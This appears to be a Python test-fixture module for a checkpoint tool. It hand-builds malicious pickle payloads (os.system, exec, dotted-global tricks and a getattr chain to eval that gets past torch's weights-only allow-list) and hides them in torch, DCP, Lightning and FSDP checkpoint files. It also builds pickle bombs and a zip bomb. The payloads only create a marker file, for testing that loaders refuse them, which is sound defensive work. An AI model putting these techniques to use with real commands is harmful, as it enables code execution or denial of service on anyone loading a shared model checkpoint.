"""Hand-written malicious pickles, and checkpoints of every pickling format that carry them.

Each payload, if anything runs it, creates the file ``marker``; a test that finds no
marker after a command has shown that the command never ran it. The pickles are
written opcode by opcode, so each holds exactly the trick it is named after:

- ``reduce-os-system`` / ``reduce-exec``: the classic ``__reduce__``, a global callable
  called with a command.
- ``dotted-stack-global`` / ``dotted-global``: protocol 4 names ``os.system`` as an
  attribute path under a module DCP metadata legitimately uses.
- ``getattr-chain``: only names a loader of ShardedTensor files once allowed
  (``builtins.getattr``, ``_rebuild_from_type_v2``, ``ShardMetadata``), walking
  ``ShardMetadata.__init__.__builtins__`` to ``eval``.
"""

from __future__ import annotations

import io
import pickle
import shlex
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import torch
import torch.distributed.checkpoint as dcp
from isal import isal_zlib

DCP_METADATA_MODULE = "torch.distributed.checkpoint.metadata"
SHARDED_TENSOR = ("torch.distributed._shard.sharded_tensor.api", "ShardedTensor")


def _str(text: str) -> bytes:
    data = text.encode()
    return pickle.BINUNICODE + struct.pack("<I", len(data)) + data


def _global(module: str, name: str) -> bytes:
    return pickle.GLOBAL + f"{module}\n{name}\n".encode()


def _tuple(*items: bytes) -> bytes:
    return pickle.MARK + b"".join(items) + pickle.TUPLE


def _call(func: bytes, *args: bytes) -> bytes:
    return func + _tuple(*args) + pickle.REDUCE


def _proto(n: int) -> bytes:
    return pickle.PROTO + bytes([n])


def _shell(marker: Path) -> str:
    return f"touch {shlex.quote(str(marker))}"


def _python(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def reduce_os_system(marker: Path) -> bytes:
    """Return ``os.system("touch marker")`` as ``pickle.dumps`` writes a ``__reduce__`` to it."""
    return _proto(2) + _call(_global("os", "system"), _str(_shell(marker))) + pickle.STOP


def reduce_exec(marker: Path) -> bytes:
    """Return ``builtins.exec`` of code that creates ``marker``."""
    return _proto(2) + _call(_global("builtins", "exec"), _str(_python(marker))) + pickle.STOP


def dotted_stack_global(marker: Path) -> bytes:
    """Return ``os.system`` reached as ``torch.distributed.checkpoint.metadata`` + ``"os.system"``."""
    func = _str(DCP_METADATA_MODULE) + _str("os.system") + pickle.STACK_GLOBAL
    return _proto(4) + _call(func, _str(_shell(marker))) + pickle.STOP


def dotted_global(marker: Path) -> bytes:
    """Return the same attribute path as a GLOBAL opcode (protocol 4 traverses it too)."""
    func = _global(DCP_METADATA_MODULE, "os.system")
    return _proto(4) + _call(func, _str(_shell(marker))) + pickle.STOP


def getattr_chain(marker: Path) -> bytes:
    """Return ``eval`` reached from allowed names through ``getattr``, then called.

    ``getattr(getattr(ShardMetadata.__init__, "__builtins__"), "get")`` is a bound method
    no allow-list names, but ``_rebuild_from_type_v2(func, type, args, state)`` (allowed
    by default) calls any ``func`` it is given: once to fetch ``eval``, once to run it.
    """
    getattr_ = _global("builtins", "getattr")

    def attr(obj: bytes, name: str) -> bytes:
        return _call(getattr_, obj, _str(name))

    rebuild = _global("torch._tensor", "_rebuild_from_type_v2")
    anchor = _global("torch.distributed._shard.metadata", "ShardMetadata")
    builtin_type = attr(getattr_, "__class__")
    builtins_get = attr(attr(attr(anchor, "__init__"), "__builtins__"), "get")
    eval_ = _call(rebuild, builtins_get, builtin_type, _tuple(_str("eval")), pickle.EMPTY_DICT)
    ran = _call(rebuild, eval_, builtin_type, _tuple(_str(_python(marker))), pickle.EMPTY_DICT)
    return _proto(2) + ran + pickle.STOP


PAYLOADS: dict[str, Callable[[Path], bytes]] = {
    "reduce-os-system": reduce_os_system,
    "reduce-exec": reduce_exec,
    "dotted-stack-global": dotted_stack_global,
    "dotted-global": dotted_global,
    "getattr-chain": getattr_chain,
}


def as_state_dict(payload: bytes, *, flat_param: bool = False) -> bytes:
    """Return ``payload`` as the value of a state dict that detection takes for FSDP1.

    The dict first names ShardedTensor and (``flat_param``) a ``_flat_param`` key, so a
    directory of such files is detected as ``fsdp1-sharded`` or ``fsdp1-local`` and the
    payload reaches that format's reader; its value is the payload's object.
    """
    assert payload.startswith(pickle.PROTO) and payload.endswith(pickle.STOP)
    proto, body = payload[:2], payload[2:-1]
    key = "layer._flat_param" if flat_param else "layer.weight"
    return (
        proto
        + pickle.EMPTY_DICT
        + _str(key)
        + _global(*SHARDED_TENSOR)
        + pickle.SETITEM
        + _str("evil")
        + body
        + pickle.SETITEM
        + pickle.STOP
    )


def with_data_pkl(torch_file: Path, pickle_bytes: bytes) -> None:
    """Replace the pickle of a ``torch.save`` zip with ``pickle_bytes``; keep its other records."""
    with zipfile.ZipFile(torch_file) as zf:
        records = [(info.filename, zf.read(info)) for info in zf.infolist()]
    with zipfile.ZipFile(torch_file, "w", zipfile.ZIP_STORED) as zf:
        for name, data in records:
            zf.writestr(name, pickle_bytes if name.endswith("/data.pkl") else data)


def torch_file(path: Path, pickle_bytes: bytes) -> Path:
    """Write a ``torch.save`` file whose pickle is ``pickle_bytes``; return its path."""
    torch.save({"w": torch.ones(2)}, path)
    with_data_pkl(path, pickle_bytes)
    return path


def rank_dir(path: Path, pickle_bytes: bytes, world_size: int = 2) -> Path:
    """Write a directory of ``rank_{r}.pt`` files, each with ``pickle_bytes`` as its pickle."""
    path.mkdir()
    for rank in range(world_size):
        torch_file(path / f"rank_{rank}.pt", pickle_bytes)
    return path


def dcp_dir(path: Path) -> Path:
    """Write a small DCP checkpoint with one tensor and one non-tensor value (``epoch``)."""
    dcp.save({"w": torch.arange(6.0), "epoch": 3}, checkpoint_id=path, no_dist=True)
    return path


def dcp_with_metadata(path: Path, pickle_bytes: bytes) -> Path:
    """Write a DCP checkpoint whose ``.metadata`` is ``pickle_bytes``."""
    dcp_dir(path)
    (path / ".metadata").write_bytes(pickle_bytes)
    return path


def dcp_with_value(path: Path, value_bytes: bytes, key: str = "epoch") -> Path:
    """Write a DCP checkpoint whose value ``key`` is stored as ``value_bytes``.

    The bytes go at the end of the value's ``.distcp`` file and ``.metadata`` is
    re-written to point there, exactly as if DCP had stored them.
    """
    dcp_dir(path)
    md_file = path / ".metadata"
    with open(md_file, "rb") as f:
        md = pickle.load(f)
    index = next(i for i in md.storage_data if i.fqn == key)
    info = md.storage_data[index]
    data_file = path / info.relative_path
    info.offset = data_file.stat().st_size
    info.length = len(value_bytes)
    with open(data_file, "ab") as f:
        f.write(value_bytes)
    with open(md_file, "wb") as f:
        pickle.dump(md, f)
    return path


def torch_save_bytes(pickle_bytes: bytes) -> bytes:
    """Return what ``torch.save`` writes for a value, with ``pickle_bytes`` as its pickle."""
    buf = io.BytesIO()
    torch.save(3, buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as zf:
        records = [(info.filename, zf.read(info)) for info in zf.infolist()]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zf:
        for name, data in records:
            zf.writestr(name, pickle_bytes if name.endswith("/data.pkl") else data)
    return out.getvalue()


def lightning_dir(path: Path, pickle_bytes: bytes) -> Path:
    """Write a DCP checkpoint with ``pickle_bytes`` as the pickle of Lightning's ``meta.pt`` beside it."""
    dcp_dir(path)
    torch_file(path / "meta.pt", pickle_bytes)
    return path


@dataclass(frozen=True)
class Carrier:
    """A format that unpickles: how to hide a pickle in it, its ``--format`` name, the file refused."""

    build: Callable[[Path, bytes], Path]
    fmt: str
    refused: Callable[[Path], Path]


CARRIERS = {
    "torch": Carrier(lambda d, pk: torch_file(d / "evil.pt", pk), "torch", lambda src: src),
    "dcp-metadata": Carrier(
        lambda d, pk: dcp_with_metadata(d / "ckpt", pk), "dcp", lambda src: src / ".metadata"
    ),
    "dcp-value": Carrier(
        lambda d, pk: dcp_with_value(d / "ckpt", torch_save_bytes(pk)),
        "dcp",
        lambda src: src / "__0_0.distcp",
    ),
    "lightning-meta": Carrier(
        lambda d, pk: lightning_dir(d / "ckpt", pk), "lightning", lambda src: src / "meta.pt"
    ),
    "fsdp2-ranks": Carrier(
        lambda d, pk: rank_dir(d / "ranks", pk), "fsdp2-ranks", lambda src: src / "rank_0.pt"
    ),
    "fsdp1-sharded": Carrier(
        lambda d, pk: rank_dir(d / "ranks", as_state_dict(pk)),
        "fsdp1-sharded",
        lambda src: src / "rank_0.pt",
    ),
    "fsdp1-local": Carrier(
        lambda d, pk: rank_dir(d / "ranks", as_state_dict(pk, flat_param=True)),
        "fsdp1-local",
        lambda src: src / "rank_0.pt",
    ),
}
"""Every format that unpickles with torch's loaders, and where in it a pickle goes."""


# Pickles that name nothing unsafe but cost without bound once built: each is a few hundred
# bytes (or a few hundred kilobytes) that, unpickled, hashes, prints or walks for hours,
# inside C where no signal is acted on. Every object below is reused through the memo.


def _get(index: int) -> bytes:
    return pickle.LONG_BINGET + struct.pack("<I", index)


def _put(index: int) -> bytes:
    return pickle.LONG_BINPUT + struct.pack("<I", index)


def _tuple_dag(levels: int) -> bytes:
    """Push ``t[levels]``, where ``t[0] = ()`` and ``t[i + 1] = (t[i], t[i])``: 2**levels tuples once expanded."""
    out = pickle.EMPTY_TUPLE + _put(0)
    for i in range(levels):
        out += _get(i) + pickle.TUPLE2 + _put(i + 1)
    return out


def tuple_dag_key(levels: int = 40) -> bytes:
    """Return ``{t: None}`` with ``t`` the tuple DAG: inserting the key hashes 2**levels tuples."""
    return (
        _proto(2)
        + pickle.EMPTY_DICT
        + _tuple_dag(levels)
        + pickle.NONE
        + pickle.SETITEM
        + pickle.STOP
    )


def dropped_dag_key(levels: int = 40) -> bytes:
    """Return ``{}``, after a dict keyed by the tuple DAG that the pickle builds and drops (POP).

    Torch's weights-only loader reads no POP; pickle's own unpicklers (DCP's metadata,
    ``--trust-pickle``) do, and hash the key all the same.
    """
    dropped = pickle.EMPTY_DICT + _tuple_dag(levels) + pickle.NONE + pickle.SETITEM + pickle.POP
    return _proto(2) + dropped + pickle.EMPTY_DICT + pickle.STOP


def list_dag_value(levels: int = 40, key: str = "version") -> bytes:
    """Return ``{key: [l[0], ..., l[levels]]}`` with ``l[i + 1] = [l[i], l[i]]``: its ``repr`` never ends."""
    out = _proto(2) + pickle.EMPTY_DICT + _str(key) + pickle.EMPTY_LIST + pickle.MARK
    out += pickle.EMPTY_LIST + _put(0)
    for i in range(levels):
        out += pickle.EMPTY_LIST + _put(i + 1) + pickle.MARK + _get(i) + _get(i) + pickle.APPENDS
    return out + pickle.APPENDS + pickle.SETITEM + pickle.STOP


def late_filled_lists(levels: int = 40) -> bytes:
    """Return ``{"w": [l[0], ..., l[levels], ...]}``, the list DAG filled from the top down.

    Every list is made empty first, then ``l[i]`` gets its two copies of ``l[i - 1]``
    from ``i = levels`` down: each list is already held by the one above when its parts
    arrive, so a count taken as each list is finished sees two parts at each level.
    """
    out = _proto(2) + pickle.EMPTY_DICT + _str("w") + pickle.EMPTY_LIST + pickle.MARK
    for i in range(levels + 1):
        out += pickle.EMPTY_LIST + _put(i)
    for i in range(levels, 0, -1):
        out += _get(i) + pickle.MARK + _get(i - 1) + _get(i - 1) + pickle.APPENDS
    return out + pickle.APPENDS + pickle.SETITEM + pickle.STOP


def deep_tuple_key(depth: int = 200_000) -> bytes:
    """Return ``{((((),),),...): None}``, tuples nested ``depth`` deep (200 KB).

    Hashing the key recurses in C: Python's own unpickler crashes (SIGSEGV) at this depth.
    """
    nested = pickle.EMPTY_TUPLE + pickle.TUPLE1 * depth
    return _proto(2) + pickle.EMPTY_DICT + nested + pickle.NONE + pickle.SETITEM + pickle.STOP


def one_key_in_many_dicts(levels: int = 18, dicts: int = 64) -> bytes:
    """Return ``{}``, after ``dicts`` dicts each keyed by one tuple DAG and dropped: each insertion hashes it."""
    each = pickle.EMPTY_DICT + _get(levels) + pickle.NONE + pickle.SETITEM + pickle.POP
    return (
        _proto(2) + _tuple_dag(levels) + pickle.POP + each * dicts + pickle.EMPTY_DICT + pickle.STOP
    )


BOMBS: dict[str, Callable[[], bytes]] = {
    "tuple-dag-key": tuple_dag_key,
    "dropped-dag-key": dropped_dag_key,
    "list-dag-value": list_dag_value,
    "late-filled-lists": late_filled_lists,
    "deep-tuple-key": deep_tuple_key,
}


def deflated_torch_file(path: Path, inflated: int = 2**31) -> Path:
    """Write a ``torch.save`` zip whose ``data.pkl`` is deflated zeros that inflate to ``inflated`` bytes.

    One deflate block of 1 MiB of zeros, flushed so that it stands alone, is repeated:
    a 2 GiB ``data.pkl`` in about 2 MB, written in well under a second.
    """
    chunk = 1 << 20
    assert inflated % chunk == 0 and inflated < 2**32  # no zip64 fields needed
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = squeeze.compress(bytes(chunk)) + squeeze.flush(zlib.Z_FULL_FLUSH)
    deflated = block * (inflated // chunk) + squeeze.flush(zlib.Z_FINISH)
    crc = one = zlib.crc32(bytes(chunk))
    for _ in range(inflated // chunk - 1):
        crc = isal_zlib.crc32_combine(crc, one, chunk)
    name = b"archive/data.pkl"
    fields = struct.pack(
        "<HHHIIIHH", zipfile.ZIP_DEFLATED, 0, 0, crc, len(deflated), inflated, len(name), 0
    )
    local = b"PK\x03\x04" + struct.pack("<HH", 20, 0) + fields + name
    central = (
        b"PK\x01\x02"
        + struct.pack("<HHH", 20, 20, 0)
        + fields
        + struct.pack("<HHHII", 0, 0, 0, 0, 0)
        + name
    )
    end = b"PK\x05\x06" + struct.pack(
        "<HHHHIIH", 0, 0, 1, 1, len(central), len(local) + len(deflated), 0
    )
    path.write_bytes(local + deflated + central + end)
    return path


def rezipped(torch_file_path: Path, which: Callable[[str], bool] = lambda name: True) -> Path:
    """Re-zip a ``torch.save`` file with its records ``which`` names deflated (all: as ``zip -r`` does)."""
    with zipfile.ZipFile(torch_file_path) as zf:
        records = [(info.filename, zf.read(info)) for info in zf.infolist()]
    with zipfile.ZipFile(torch_file_path, "w") as zf:
        for name, data in records:
            method = zipfile.ZIP_DEFLATED if which(name) else zipfile.ZIP_STORED
            zf.writestr(name, data, compress_type=method)
    return torch_file_path
